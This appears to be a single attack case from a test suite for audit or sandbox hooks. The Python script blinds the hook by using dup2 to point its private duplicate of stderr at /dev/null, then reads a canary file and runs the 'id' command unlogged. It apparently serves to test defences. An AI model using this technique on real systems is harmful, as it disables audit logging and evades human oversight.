# attack: dup2_audit_channel
# class: 2
# category: hook_bypass
# kind: audit_blinded
# describe: dup2 /dev/null over the hook's private duplicate of stderr, so its writes succeed into nothing
import json
import os

err = os.fstat(2)
null = os.open(os.devnull, os.O_WRONLY)
for fd in range(3, 256):
    if fd == null:
        continue
    try:
        st = os.fstat(fd)
    except OSError:
        continue
    if (st.st_dev, st.st_ino) == (err.st_dev, err.st_ino):
        os.dup2(null, fd)
T = json.load(open("target.json"))
try:
    open(T["canary_path"]).read()
except OSError:
    pass
os.system("id")
